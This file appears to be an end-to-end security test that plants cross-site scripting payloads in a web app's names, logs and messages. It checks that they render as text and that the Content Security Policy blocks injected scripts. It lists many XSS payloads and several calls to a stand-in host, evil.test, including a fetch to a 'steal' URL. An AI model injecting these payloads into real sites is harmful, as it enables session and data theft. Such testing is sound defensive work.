"""A23: names, titles, logs, messages and errors are markup or script."""

from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from tests.support.board_process import BoardProcess
from tests.support.machine import Machine
from tests.support.rest import RefusedError, Rest

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

MARKS = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=2">',
    "<svg/onload=window.__xss=3>",
    "<iframe srcdoc='<script>parent.__xss=4</script>'></iframe>",
    "<a href=javascript:window.__xss=5>click</a>",
    "[click](javascript:window.__xss=6)",
    "![x](http://evil.test/beacon.png)",
    "[x](data:text/html,<script>window.__xss=7</script>)",
    "<style>@import url(http://evil.test/x.css);</style>",
    "<form action=http://evil.test><button>go</button></form>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "{{constructor.constructor('window.__xss=8')()}}",
    "${window.__xss=9}",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.__xss=10>]\n```",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=11>",
]
ALL = "\n\n".join(MARKS)
SHORT = MARKS[1]


@dataclass
class Watched:
    """A page with what it asked for and what it was stopped from doing."""

    page: Page
    elsewhere: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)

    def is_clean(self) -> None:
        assert self.page.evaluate("window.__xss") is None
        assert self.dialogs == []
        assert self.elsewhere == []
        assert self.violations == []  # it was no policy that stopped it: nothing was there


@pytest.fixture
def watched(browser: Browser, board: BoardProcess, rest: Rest) -> Iterator[Watched]:
    context = browser.new_context(base_url=board.url)
    context.add_cookies([rest.browser_cookie()])  # pyright: ignore[reportArgumentType]
    made = Watched(context.new_page())
    made.page.on("request", lambda r: _note(made.elsewhere, r.url, board.url))

    def refuse(dialog: Dialog) -> None:
        made.dialogs.append(dialog.message)
        dialog.dismiss()

    made.page.on("dialog", refuse)
    made.page.on("console", lambda m: _policy(made.violations, m.text))
    yield made
    context.close()


def _note(elsewhere: list[str], url: str, own: str) -> None:
    if not url.startswith((own, own.replace("http", "ws"), "data:", "blob:", "about:")):
        elsewhere.append(url)


def _policy(violations: list[str], text: str) -> None:
    if "Content Security Policy" in text:
        violations.append(text)


@pytest.fixture(scope="module")
def planted(rest: Rest, node: Machine) -> dict[str, Any]:
    """Markup in every place that takes words."""
    script = f"git init -q .; cat <<'END'\n{ALL}\nEND"
    made = rest.environment(SHORT, setupMode="manual", setupScript=script, description=ALL)
    with suppress(RefusedError):
        rest.patch(f"/api/nodes/{node.id}", {"name": SHORT})
    assert rest.prepared(rest.map(made, node.id)["id"])["status"] == "succeeded"
    thread = rest.thread(made, title=SHORT)
    rest.do(thread, f"cat <<'END'\n{ALL}\nEND")
    failing = rest.environment(
        f"{SHORT} fails", setupMode="manual", setupScript=f"echo '{SHORT}'; false"
    )
    rest.prepared(rest.map(failing, node.id)["id"])
    return {"environment": made["id"], "thread": thread["id"], "failing": failing["id"]}


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/threads/{thread}",
        "/environments/{environment}",
        "/environments/{environment}/edit",
        "/environments/{failing}",
        "/nodes",
        "/mappings",
        "/settings",
        "/environments/%3Cimg%20src=x%20onerror=window.__xss=1%3E",
        "/?dialog=%22%3E%3Cscript%3Ewindow.__xss=1%3C/script%3E",
        "/sign-in?next=javascript:window.__xss=1",
    ],
)
def test_markup_is_shown_as_words(watched: Watched, planted: dict[str, Any], path: str) -> None:
    page = watched.page
    page.goto(path.format(**planted))
    page.wait_for_load_state("networkidle")
    if "{" in path:
        expect(page.get_by_text("onerror").first).to_be_attached()
    for scheme in ("javascript:", "data:", "vbscript:"):
        assert page.locator(f"a[href^='{scheme}']").count() == 0
    assert page.locator("main iframe, main form[action^='http'], base").count() == 0
    watched.is_clean()


def test_the_policy_would_stop_what_slipped_through(watched: Watched) -> None:
    """The second line: what if one of them were markup after all?"""
    page = watched.page
    page.goto("/")
    page.wait_for_selector("html[data-ready]", state="attached")
    page.evaluate(
        """() => {
          const add = (name, set) => document.body.append(
            Object.assign(document.createElement(name), set));
          add("script", { textContent: "window.__xss = 1" });
          add("div", { innerHTML: "<img src=x onerror='window.__xss = 2'>" });
          add("script", { src: "http://evil.test/x.js" });
          add("iframe", { srcdoc: "<script>parent.__xss = 3</script>" });
          add("a", { href: "javascript:window.__xss = 6", id: "evil" });
          document.getElementById("evil").click();
          add("img", { src: "http://evil.test/beacon.png" });
          fetch("http://evil.test/steal").catch(() => 0);
          add("base", { href: "http://evil.test/" });
        }"""
    )
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__xss") is None
    assert page.evaluate("new URL('x', document.baseURI).host") != "evil.test"
    assert len(watched.violations) >= 6
